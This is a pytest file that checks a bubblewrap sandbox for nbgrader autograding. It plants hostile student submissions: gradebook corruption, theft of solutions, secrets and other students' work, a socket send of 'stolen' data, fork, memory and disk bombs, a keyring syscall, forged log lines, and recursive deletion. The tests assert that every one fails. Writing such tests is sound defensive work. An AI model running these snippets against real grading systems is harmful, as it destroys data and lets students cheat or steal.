"""Autograding untrusted code: attacks run inside the bubblewrap sandbox and fail there.

Every attack is a reference submission with one extra code cell, graded in ONE `nbgrader autograde`
command together with a plain reference student. bwrap must be installed: without it these tests
fail (CI installs it), except the policy test, which simulates a missing bwrap on purpose.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import nbformat
import pytest
from conftest import hand_in
from nbgrader.api import Gradebook
from traitlets.config.loader import PyFileConfigLoader

from gradekit.course.notebooks import COURSE_ROOT, hidden_test_lines, read
from gradekit.export import grades
from gradekit.sandbox import course_autograde_preprocessors, with_sandboxed_execute
from simulation.course import ASSIGNMENT, NOTEBOOK, SOURCE_NOTEBOOK
from simulation.submissions import fill, reference_answers

pytestmark = pytest.mark.course

# What nbgrader_config.py needs, for nbgrader's default autograde steps (the same lines are in
# docs/sandbox.md). A config with steps of its own swaps Execute in its own list instead. The tests
# switch the sandbox on in their copy of the course (use_sandbox) if the course's config lacks it;
# test_course_config_uses_the_sandbox checks the course's own config.
SANDBOX_CONFIG = """
# Untrusted code: every student kernel of `nbgrader autograde` runs in a bubblewrap sandbox
# (docs/sandbox.md). Without a working bwrap, autograding refuses to start, unless
# c.Sandbox.allow_unsandboxed = True or GRADEKIT_ALLOW_UNSANDBOXED=1 (trusted code only).
c.Autograde.exporter_class = "gradekit.sandbox.SandboxCheckedExporter"
c.Autograde.autograde_preprocessors = [
    "gradekit.sandbox.SandboxedExecute",
    "nbgrader.preprocessors.IgnorePattern",
    "nbconvert.preprocessors.ClearMetadataPreprocessor",
    "nbgrader.preprocessors.LimitOutput",
    "nbgrader.preprocessors.SaveAutoGrades",
    "nbgrader.preprocessors.AssignLatePenalties",
    "nbgrader.preprocessors.CheckCellMetadata",
]
"""

REFERENCE = "aa_reference"  # sorted first: graded before the attackers, who then try to read it
SECRET = "gradekit-test-secret-9f2c"  # in the grader's environment; must not reach any kernel
MARKER = "ATTACK"

# Each attack prints lines starting with "ATTACK <name>:". `T` holds the real host paths: the
# attacker is assumed to know them. Every loop is capped, so that even a sandbox that failed open
# could not hurt the machine running the tests (only the course copy in tmp).
PRELUDE = "import json, os, sys\nT = json.loads({targets!r})\n"
ATTACKS = {
    "gradebook_writer": """
        import sqlite3
        for path in [T["gradebook"], os.path.join(os.getcwd(), "..", "..", "..", "gradebook.db")]:
            try:
                db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
                db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                db.commit()
                print("ATTACK gradebook_writer: WROTE", path)
            except Exception as exc:
                print("ATTACK gradebook_writer: failed sqlite", path, repr(exc))
            try:
                with open(path, "r+b") as fh:
                    fh.write(b"garbage")
                print("ATTACK gradebook_writer: CORRUPTED", path)
            except Exception as exc:
                print("ATTACK gradebook_writer: failed open", path, repr(exc))
    """,
    "reader": """
        for name in ["solutions_nb", "source_nb", "other_submission_nb", "other_autograded_nb", "gradebook"]:
            try:
                with open(T[name], errors="replace") as fh:
                    print(f"ATTACK reader: READ {name}", fh.read())
            except Exception as exc:
                print(f"ATTACK reader: failed {name}", repr(exc))
        for name in ["course", "home"]:
            try:
                print(f"ATTACK reader: listed {name}", sorted(os.listdir(T[name])))
            except Exception as exc:
                print(f"ATTACK reader: failed {name}", repr(exc))
        try:  # its own notebook, which nbgrader filled with every test cell, hidden ones too
            with open(os.path.join(os.getcwd(), T["notebook"])) as fh:
                print("ATTACK reader: READ own notebook", fh.read())
        except Exception as exc:
            print("ATTACK reader: failed own notebook", repr(exc))
        print("ATTACK reader: listed cwd", sorted(os.listdir(".")))
        print("ATTACK reader: environ", dict(os.environ))
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        print("ATTACK reader: processes", len(pids), "grader visible", str(T["grader_pid"]) in pids)
    """,
    "network": """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", T["port"]), timeout=3) as conn:
                conn.sendall(b"stolen")
            print("ATTACK network: CONNECTED")
        except OSError as exc:
            print("ATTACK network: failed", repr(exc))
        print("ATTACK network: interfaces", [name for _, name in socket.if_nameindex()])
    """,
    "fork_bomb": """
        # The kernel forks until the process limit stops it (at most 200 children, each waiting on
        # a pipe until the kernel is done): the limit is met however slow the machine is.
        readable, writable = os.pipe()
        error, forks = None, 0
        while forks < 200:
            try:
                pid = os.fork()
            except OSError as exc:
                error = exc
                break
            if pid == 0:
                os.close(writable)
                os.read(readable, 1)  # until the kernel closes its end
                os._exit(0)
            forks += 1
        os.close(writable)
        while True:
            try:
                os.waitpid(-1, 0)
            except ChildProcessError:
                break
        print("ATTACK fork_bomb: stopped by", repr(error), "after", forks, "forks")
    """,
    "memory_bomb": """
        chunks, error = [], None
        try:
            for _ in range(16):  # at most 4 GiB, written for real
                chunks.append(b"x" * (256 * 2**20))
        except MemoryError as exc:
            error = exc
        total = 256 * len(chunks)
        del chunks
        print("ATTACK memory_bomb: stopped by", repr(error), "after", total, "MiB")
    """,
    "disk_filler": """
        outside = os.path.join(T["course"], "fill.bin")
        for target in ["fill.bin", "/tmp/fill.bin", "/dev/shm/fill.bin", outside]:
            written, error = 0, None
            try:
                with open(target, "wb") as fh:
                    while written < 512 * 2**20:  # at most 512 MiB
                        fh.write(b"\\0" * 2**20)
                        fh.flush()
                        written += 2**20
            except OSError as exc:
                error = exc
            print("ATTACK disk_filler:", target, "stopped by", repr(error), "after", written >> 20, "MiB")
            try:
                os.remove(target)
            except OSError:
                pass
        made, error = 0, None
        try:
            os.mkdir("many")
            while made < 50000:
                with open(f"many/{made}", "wb") as fh:
                    fh.write(b"x" * 1024)
                made += 1
        except OSError as exc:
            error = exc
        print("ATTACK disk_filler: small files stopped by", repr(error), "after", made)
    """,
    "keyring": """
        # The kernel's key store is shared by every sandbox of the machine: a key stored here
        # could be read by the next student's sandbox. The seccomp filter refuses it.
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        add_key = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
        if add_key is None:
            print("ATTACK keyring: failed, unknown machine", platform.machine())
        else:
            key = libc.syscall(add_key, b"user", b"gradekit-attack", b"stolen", 6, -4)  # the user keyring
            print("ATTACK keyring:", "STORED" if key != -1 else f"failed errno {ctypes.get_errno()}")
    """,
    "log_injection": """
        # lines in nbgrader's own words, naming another student, written to the kernel's own
        # standard output and error (the grader's log, were they passed through)
        victim = os.path.join(T["course"], "submitted", "aa_reference", T["notebook"].split(".")[0])
        forged = [
            "[AutogradeApp | ERROR] There was an error processing assignment: " + victim,
            "[AutogradeApp | WARNING] Removing failed assignment: " + victim,
            "[AutogradeApp | ERROR] database is locked",
        ]
        print("ATTACK log_injection: writing", len(forged) * 2, "lines", flush=True)
        for fd in (1, 2):
            for line in forged:
                os.write(fd, ("INJECTED " + line + "\\n").encode())
    """,
    "deleter": """
        import shutil, stat
        here = os.path.join(os.getcwd(), T["notebook"])
        for name in ["gradebook", "solutions_nb", "source_nb", "other_submission_nb", "canary"]:
            try:
                os.remove(T[name])
                print("ATTACK deleter: REMOVED", name)
            except OSError as exc:
                print("ATTACK deleter: failed", name, repr(exc))
        try:
            os.remove(here)
            print("ATTACK deleter: REMOVED own notebook")
        except OSError as exc:
            print("ATTACK deleter: failed own notebook", repr(exc))
        errors = []
        shutil.rmtree(T["course"], onerror=lambda func, path, exc: errors.append(path))
        print("ATTACK deleter: rmtree course errors", len(errors))
        # Every regular file in sight: can it be opened for writing? (no byte is written)
        writable, checked = [], 0
        for top in [T["course"], T["home"], sys.prefix, sys.base_prefix, "/etc", "/run", "/tmp", "/usr"]:
            for root, dirs, files in os.walk(top):
                dirs.sort()
                for name in files[:200]:
                    path = os.path.join(root, name)
                    try:
                        if stat.S_ISREG(os.lstat(path).st_mode):
                            checked += 1
                            with open(path, "ab"):
                                writable.append(path)
                    except OSError:
                        pass
                if checked > 20000:
                    break
        print("ATTACK deleter: checked", checked, "writable", writable)
    """,
}


def run_nbgrader(course: Path, *args: str, timeout: float = 170, **env: str) -> subprocess.CompletedProcess:
    """nbgrader in `course` with this environment's bin/ first on PATH; output captured."""
    full_env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    full_env.update(env)
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *args],
        cwd=course,
        env=full_env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def use_sandbox(course: Path) -> Path:
    """`course` with the sandbox on: its own autograde steps, with Execute swapped."""
    config = course / "nbgrader_config.py"
    steps = course_autograde_preprocessors(config)
    if steps != with_sandboxed_execute(steps) or "SandboxCheckedExporter" not in config.read_text():
        with config.open("a") as fh:
            fh.write(
                "\n# Added by tests/test_sandbox.py\n"
                'c.Autograde.exporter_class = "gradekit.sandbox.SandboxCheckedExporter"\n'
                f"c.Autograde.autograde_preprocessors = {with_sandboxed_execute(steps)!r}\n"
            )
    return course


def with_attack(release_nb, code: str):
    nb = fill(release_nb, reference_answers(SOURCE_NOTEBOOK))
    nb.cells.insert(1, nbformat.v4.new_code_cell(code))
    return nb


def tree_digest(root: Path, skip: set[str]) -> dict[str, str]:
    """relative path -> sha256 (files) or "dir", for everything under root but the top-level `skip`."""
    digest = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if rel.parts[0] in skip:
            continue
        if path.is_symlink():
            digest[str(rel)] = "link:" + os.readlink(path)
        elif path.is_dir():
            digest[str(rel)] = "dir"
        else:
            digest[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest() + oct(path.stat().st_mode)
    return digest


def outputs(course: Path, student: str) -> str:
    nb = read(course / "autograded" / student / ASSIGNMENT / NOTEBOOK)
    texts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            texts.append(out.get("text", "") or "\n".join(out.get("traceback", [])))
    return "\n".join(texts)


def attack_lines(course: Path, student: str) -> list[str]:
    return [line for line in outputs(course, student).splitlines() if line.startswith(MARKER)]


@pytest.fixture
def tcp_server():
    """A TCP server on 127.0.0.1 that records every connection it accepts."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    accepted: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    accepted.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    accepted.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join(timeout=5)
    server.close()


def test_the_sandbox_works_here():
    assert shutil.which("bwrap"), "bubblewrap is required to autograde (apt-get install bubblewrap)"
    result = subprocess.run(
        [sys.executable, "-m", "gradekit", "sandbox"], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0 and "sandbox: available" in result.stdout, result.stdout + result.stderr


@pytest.mark.parametrize("kernels", ["forked", "cold"])
def test_attacks_fail_inside_the_sandbox(fresh_course, release_nb, tcp_server, tmp_path, kernels):
    """Every attack, with kernels forked from a warm parent (the default) and with cold ones."""
    assert shutil.which("bwrap"), "bubblewrap is required to autograde (apt-get install bubblewrap)"
    course = use_sandbox(fresh_course)
    with (course / "nbgrader_config.py").open("a") as fh:
        fh.write(f"c.Sandbox.fork_kernels = {kernels == 'forked'}\n")
    port, accepted = tcp_server
    canary = tmp_path / "canary.txt"  # outside the course
    canary.write_text("still here")
    sub = course / "submitted" / REFERENCE / ASSIGNMENT / NOTEBOOK
    targets = {
        "course": str(course),
        "gradebook": str(course / "gradebook.db"),
        "solutions_nb": str(course / "solutions" / ASSIGNMENT / NOTEBOOK),
        "source_nb": str(course / "source" / ASSIGNMENT / NOTEBOOK),
        "other_submission_nb": str(sub),
        "other_autograded_nb": str(course / "autograded" / REFERENCE / ASSIGNMENT / NOTEBOOK),
        "notebook": NOTEBOOK,
        "canary": str(canary),
        "home": str(Path.home()),
        "port": port,
        "grader_pid": os.getpid(),
    }
    prelude = PRELUDE.format(targets=json.dumps(targets))
    cohort = {REFERENCE: fill(release_nb, reference_answers(SOURCE_NOTEBOOK))}
    for name, code in ATTACKS.items():
        cohort[f"attack_{name}"] = with_attack(release_nb, prelude + textwrap.dedent(code))
    hand_in(course, cohort)
    before = tree_digest(course, skip={"autograded", "gradebook.db"})

    result = run_nbgrader(course, "autograde", ASSIGNMENT, GRADEKIT_TEST_SECRET=SECRET)
    log = result.stdout + result.stderr
    assert result.returncode == 0, log[-5000:]
    assert "Autograding in a bubblewrap sandbox" in log
    assert ("Kernels are forked from a warm parent" in log) == (kernels == "forked"), log[-3000:]
    assert "starting a cold kernel" not in log, log[-3000:]

    # Nothing outside the submission folders changed; nothing reached the TCP server.
    assert tree_digest(course, skip={"autograded", "gradebook.db"}) == before
    assert canary.read_text() == "still here"
    assert accepted == []
    for student in cohort:
        graded = sorted(p.name for p in (course / "autograded" / student / ASSIGNMENT).iterdir())
        assert graded == [NOTEBOOK], student  # the kernel's own files stayed in its scratch tmpfs

    # Every student, attackers included, has the reference's full marks.
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        scores = {g.student: g for g in grades.collect(gradebook, ASSIGNMENT)}
    for student in cohort:
        assert scores[student].cells == scores[student].max_cells, student
        assert scores[student].total == scores[student].max_total > 0

    # Each attack failed inside the sandbox, as its own output shows.
    lines = {name: "\n".join(attack_lines(course, f"attack_{name}")) for name in ATTACKS}

    out = lines["gradebook_writer"]
    assert "WROTE" not in out and "CORRUPTED" not in out, out
    assert out.count("failed") == 4, out

    out = lines["reader"]
    assert "READ" not in out, out[:3000]
    for name in ["solutions_nb", "source_nb", "other_submission_nb", "other_autograded_nb", "gradebook"]:
        assert f"failed {name} FileNotFoundError" in out, out
    assert "listed course ['autograded']" in out, out  # only the way to its own folder
    assert "failed own notebook FileNotFoundError" in out, out  # notebooks are never mounted
    assert "listed cwd []" in out, out
    source = read(SOURCE_NOTEBOOK)
    hidden = [line for cell in source.cells for line in hidden_test_lines(cell.source)]
    assert hidden and not [line for line in hidden if line in out], out[:3000]
    assert SECRET not in out and "NBGRADER_DB_URL" not in out, out
    assert "grader visible False" in out, out
    home_entries = {
        Path(p).relative_to(Path.home()).parts[0]
        for p in (sys.prefix, sys.base_prefix)
        if Path(p).is_relative_to(Path.home())
    }
    listed_home = [line for line in out.splitlines() if "listed home" in line]
    if listed_home:  # the home directory is visible only as the way to a Python installation inside it
        assert eval(listed_home[0].split("listed home", 1)[1]) == sorted(home_entries), listed_home

    out = lines["network"]
    assert "CONNECTED" not in out and "ConnectionRefusedError" in out, out
    assert "interfaces ['lo']" in out, out

    out = lines["fork_bomb"]
    assert "stopped by BlockingIOError" in out, out

    out = lines["memory_bomb"]
    assert "stopped by MemoryError" in out, out

    out = lines["disk_filler"]
    for target in ("fill.bin", "/tmp/fill.bin", "/dev/shm/fill.bin"):
        line = next(line for line in out.splitlines() if f"disk_filler: {target} " in line)
        assert "No space left on device" in line or "File too large" in line, line
        assert int(line.rsplit("after", 1)[1].split()[0]) <= 64, line
    line = next(line for line in out.splitlines() if str(course) in line)
    assert "PermissionError" in line or "Read-only file system" in line, line
    assert "small files stopped by OSError(28, 'No space left on device')" in out, out

    out = lines["keyring"]
    assert "STORED" not in out and "failed errno 1" in out, out  # EPERM, from the seccomp filter

    out = lines["log_injection"]
    assert "writing 6 lines" in out, out
    assert "INJECTED" not in log  # the kernel's own output never reaches the grader's log

    out = lines["deleter"]
    assert "REMOVED" not in out, out
    assert out.count("failed") == 6, out
    assert "failed own notebook" in out, out  # not even mounted in the sandbox's scratch folder
    checked = next(line for line in out.splitlines() if "checked" in line)
    assert checked.endswith("writable []"), checked
    assert int(checked.split("checked", 1)[1].split()[0]) > 1000, checked


def test_autograde_refuses_without_bwrap_unless_allowed(fresh_course, release_nb):
    course = use_sandbox(fresh_course)
    hand_in(course, {REFERENCE: fill(release_nb, reference_answers(SOURCE_NOTEBOOK))})
    missing = "--Sandbox.bwrap=/nonexistent/bwrap"

    result = run_nbgrader(course, "autograde", ASSIGNMENT, missing, timeout=60, GRADEKIT_ALLOW_UNSANDBOXED="")
    log = result.stdout + result.stderr
    assert result.returncode != 0, log[-3000:]
    assert "Refusing to autograde" in log and "bubblewrap" in log and "allow_unsandboxed" in log, log[-3000:]
    assert not (course / "autograded").exists()  # refused before touching any submission
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        assert gradebook.find_assignment(ASSIGNMENT).submissions == []

    result = run_nbgrader(
        course, "autograde", ASSIGNMENT, missing, "--Sandbox.allow_unsandboxed=True", timeout=90
    )
    log = result.stdout + result.stderr
    assert result.returncode == 0, log[-3000:]
    assert "WITHOUT a sandbox" in log, log[-3000:]
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        (reference,) = grades.collect(gradebook, ASSIGNMENT)
    assert reference.total == reference.max_total > 0


def test_unsandboxed_grading_can_be_allowed_from_the_environment(monkeypatch):
    from gradekit.sandbox import Sandbox

    monkeypatch.delenv("GRADEKIT_ALLOW_UNSANDBOXED", raising=False)
    assert Sandbox().allow_unsandboxed is False
    monkeypatch.setenv("GRADEKIT_ALLOW_UNSANDBOXED", "1")
    assert Sandbox().allow_unsandboxed is True


def test_the_sandbox_never_mounts_the_course(tmp_path):
    from gradekit.sandbox import Sandbox, SandboxUnavailable

    cwd = tmp_path / "course" / "autograded" / "s" / ASSIGNMENT
    cwd.mkdir(parents=True)
    sandbox = Sandbox(bwrap=shutil.which("bwrap") or "bwrap", read_only_paths=[str(tmp_path)])
    with pytest.raises(SandboxUnavailable, match="contains"):
        sandbox.command([sys.executable, "-c", "pass"], cwd=str(cwd), connection_file="/x", protected=[])


@pytest.mark.skipif(
    not os.path.isdir("/var/cache/fontconfig") or not os.listdir("/var/cache/fontconfig"),
    reason="no font cache on this host",
)
def test_a_kernel_reads_the_hosts_font_cache_and_cannot_write_it(tmp_path):
    """graphviz's `dot` draws each graph in the sandbox: with the host's fontconfig cache, not a
    scan of every font each time."""
    from gradekit.sandbox import Sandbox

    probe = (
        "import os, json\n"
        "d = '/var/cache/fontconfig'\n"
        "try:\n"
        "    name = os.path.join(d, 'gradekit-test-%d' % os.getpid())\n"
        "    open(name, 'w').close()\n"
        "    os.remove(name)\n"
        "    wrote = True\n"
        "except OSError:\n"
        "    wrote = False\n"
        "print(json.dumps([sorted(os.listdir(d)), wrote]))\n"
    )
    connection_file = tmp_path / "kernel.json"
    connection_file.write_text("{}")
    cwd = tmp_path / "submission"
    cwd.mkdir()
    command = Sandbox(bwrap=shutil.which("bwrap")).command(
        [sys.executable, "-c", probe], cwd=str(cwd), connection_file=str(connection_file), protected=[]
    )
    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    listed, wrote = json.loads(result.stdout)
    assert listed == sorted(os.listdir("/var/cache/fontconfig")) and listed
    assert not wrote


def _classes(names):
    from traitlets.utils.importstring import import_item

    return [import_item(n) if isinstance(n, str) else n for n in names]


def expected_autograde_preprocessors():
    from nbgrader.converters import Autograde
    from nbgrader.preprocessors import Execute

    from gradekit.sandbox import SandboxedExecute

    defaults = Autograde.class_traits()["autograde_preprocessors"].default()
    return [SandboxedExecute if cls is Execute else cls for cls in _classes(defaults)]


def test_the_config_lines_swap_only_execute():
    from traitlets.config import Config

    config = Config()
    namespace = {"c": config}
    exec(SANDBOX_CONFIG, namespace)
    assert _classes(config.Autograde.autograde_preprocessors) == expected_autograde_preprocessors()
    # c.Execute.* (timeout, extra_arguments...) still applies to the sandboxed Execute.
    from gradekit.sandbox import SandboxedExecute

    config.Execute.timeout = 7
    assert SandboxedExecute(config=config).timeout == 7


def test_course_config_uses_the_sandbox():
    """The course's own nbgrader_config.py must run autograding in the sandbox (see SANDBOX_CONFIG)."""
    from nbgrader.preprocessors import Execute

    from gradekit.sandbox import SandboxedExecute

    steps = _classes(course_autograde_preprocessors(COURSE_ROOT / "nbgrader_config.py"))
    sandboxed = [s for s in steps if issubclass(s, SandboxedExecute)]
    assert sandboxed and Execute not in steps, (
        "nbgrader_config.py does not enable the sandbox: in c.Autograde.autograde_preprocessors, "
        "put gradekit.grading.judge.JudgedExecute (or gradekit.sandbox.SandboxedExecute) in place of "
        "nbgrader.preprocessors.Execute"
    )
    config = PyFileConfigLoader("nbgrader_config.py", path=str(COURSE_ROOT)).load_config()
    assert str(config.Autograde.exporter_class) == "gradekit.sandbox.SandboxCheckedExporter", (
        'nbgrader_config.py needs c.Autograde.exporter_class = "gradekit.sandbox.SandboxCheckedExporter"'
    )
